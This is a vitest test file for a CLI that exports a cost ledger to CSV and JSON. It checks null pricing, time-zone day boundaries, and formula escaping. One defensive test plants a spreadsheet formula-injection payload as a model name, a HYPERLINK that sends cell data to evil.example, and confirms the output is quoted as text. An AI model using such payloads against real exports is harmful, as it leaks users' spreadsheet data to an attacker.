/**
 * `spec-session export` on hand-written ledgers: an unpriced call is an empty cell, not $0; days
 * follow the zone; a formula in a model name reaches the CSV as text.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { cli } from '../e2e/support/project.js';
import { parseCsv } from './support/parse-csv.js';

type Row = Record<string, string | number | null>;

describe('export of the hand-written ledger', () => {
  const project = mkdtempSync(join(tmpdir(), 'spec-session-export-'));
  mkdirSync(join(project, 'home'));
  mkdirSync(join(project, '.claude', 'spec-session'), { recursive: true }); // a clone of an installed project: a project root
  cpSync(
    fileURLToPath(new URL('../dashboard/fixtures/ledger', import.meta.url)),
    join(project, 'docs', 'sessions', 'ledger'),
    { recursive: true },
  );
  afterAll(() => rmSync(project, { recursive: true, force: true }));
  const run = (...args: string[]) =>
    spawnSync(process.execPath, [cli, 'export', ...args, '--dir', project, '--tz', 'America/New_York'], {
      env: { ...process.env, HOME: join(project, 'home') },
      encoding: 'utf8',
    }).stdout;

  it('an unpriced model: an empty cell in CSV, null in JSON; gap and manual rows keep their kind', () => {
    const csv = parseCsv(run('--format', 'csv'));
    const mystery = csv.find((r) => r[5] === 'claude-mystery-9')!;
    expect(mystery.at(-1)).toBe('');
    const { rows } = JSON.parse(run('--format', 'json')) as { rows: Row[] };
    expect(rows.find((r) => r.model === 'claude-mystery-9')?.cost_usd).toBeNull();
    expect(rows.map((r) => r.kind).sort()).toEqual([
      'call',
      'call',
      'call',
      'call',
      'call',
      'call',
      'call',
      'call',
      'gap',
      'manual',
    ]);
  });

  it('days follow the zone: --since/--until pick the same rows as cost does', () => {
    const { rows } = JSON.parse(run('--format', 'json', '--since', '2026-11-19', '--until', '2026-11-19')) as {
      rows: Row[];
    };
    expect(rows.map((r) => r.timestamp)).toContain('2026-11-20T03:00:00.000Z'); // 22:00 on the 19th in New York
  });
});

describe('a formula in the ledger', () => {
  it('reaches the CSV as text: a leading quote, never a live formula', () => {
    const project = mkdtempSync(join(tmpdir(), 'spec-session-export-'));
    mkdirSync(join(project, '.claude', 'spec-session'), { recursive: true });
    mkdirSync(join(project, 'docs', 'sessions', 'ledger', '2026-11-20'), { recursive: true });
    // A model name comes from a transcript line, which anyone who can write one controls.
    const model = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const call = {
      k: 'call',
      msg: 'msg_f1',
      req: 'req_f1',
      t: '2026-11-20T10:00:00.000Z',
      cs: 'dddddddd-0000-4000-8000-000000000004',
      model,
      in: 10,
      out: 5,
      cw5: 0,
      cw1h: 0,
      cr: 0,
      ws: null,
      spec: null,
      task: null,
    };
    writeFileSync(
      join(project, 'docs', 'sessions', 'ledger', '2026-11-20', 'dddddddd-0000-4000-8000-000000000004.jsonl'),
      `${JSON.stringify(call)}\n`,
    );
    const r = spawnSync(process.execPath, [cli, 'export', '--dir', project, '--tz', 'UTC'], {
      env: { ...process.env, HOME: project },
      encoding: 'utf8',
    });
    const [, row] = parseCsv(r.stdout);
    expect(row![5]).toBe(`'${model}`);
    expect(row!.slice(7, 12)).toEqual(['10', '5', '0', '0', '0']);
    rmSync(project, { recursive: true, force: true });
  });
});
